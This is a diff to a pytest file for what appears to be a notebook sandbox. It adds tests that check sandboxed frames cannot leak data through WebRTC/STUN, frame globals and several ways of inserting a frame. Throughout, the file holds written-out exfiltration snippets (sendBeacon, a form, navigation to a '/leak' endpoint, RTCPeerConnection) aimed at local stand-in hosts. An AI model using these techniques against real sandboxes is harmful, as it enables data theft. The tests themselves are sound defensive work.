@@ -44,6 +44,8 @@ ATTEMPTS = {
         setTimeout(() => fail(new Error('nothing')), 1500); })""",
     "a beacon": "if (!navigator.sendBeacon(ELSEWHERE + '/leak', 'x')) throw 1; throw new Error('sent?')",
     "WebRTC": "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:1'}]})",
+    "globals of a blank frame within": """const frame = document.createElement('iframe'); document.body.append(frame);
+        new frame.contentWindow.RTCPeerConnection()""",
     "a form sent away": """const form = document.createElement('form'); form.action = ELSEWHERE + '/leak';
         form.method = 'get'; document.body.append(form); form.submit(); await new Promise(r => setTimeout(r, 500));
         throw new Error('still here')""",
@@ -120,6 +122,55 @@ async def test_a_frame_that_navigates_itself_sends_nothing(lab: Host) -> None:
         await frame.evaluate("url => { setTimeout(() => { location.href = url + '/leak?secret' }, 0) }", elsewhere.url)
         await notebook.page.wait_for_timeout(1500)
         assert not elsewhere.reached
+
+
+WEBRTC_WITHIN = """async (stun) => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = `<script>
+        const peer = new RTCPeerConnection({iceServers: [{urls: '${stun}'}]});
+        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+    </` + 'script>';
+    HOW
+}"""
+
+
+class Datagrams(asyncio.DatagramProtocol):
+    def __init__(self) -> None:
+        self.count = 0
+
+    def datagram_received(self, _data: bytes, _address: object) -> None:
+        self.count += 1
+
+
+@pytest.mark.parametrize(
+    "how",
+    [
+        "document.body.append(frame)",
+        "document.body.innerHTML += frame.outerHTML",
+        "document.body.attachShadow({mode: 'closed'}).append(frame)",
+        "document.documentElement.replaceWith(frame)",
+        "document.write(frame.outerHTML)",
+    ],
+)
+async def test_a_frame_within_does_not_bring_webrtc_back(lab: Host, how: str) -> None:
+    transport, heard = await asyncio.get_running_loop().create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", 0))
+    try:
+        stun = f"stun:127.0.0.1:{transport.get_extra_info('sockname')[1]}"
+        notebook = await opened(lab, f"webrtc-{abs(hash(how))}")
+        # Outside of the sandbox the same frame does reach it: the counting works.
+        await notebook.page.evaluate(WEBRTC_WITHIN.replace("HOW", "document.body.append(frame)"), stun)
+        await notebook.page.wait_for_timeout(1500)
+        assert heard.count > 0
+        heard.count = 0
+        await notebook.page.evaluate("document.querySelector('body > iframe').remove()")
+        await notebook.page.wait_for_timeout(1500)
+        heard.count = 0
+        frame = await notebook.frame_with("#victim")
+        await frame.evaluate(WEBRTC_WITHIN.replace("HOW", how), stun)
+        await notebook.page.wait_for_timeout(1500)
+        assert heard.count == 0
+    finally:
+        transport.close()
 
 
 async def test_an_origin_on_the_list_is_reached_and_no_other(lab: Host) -> None:
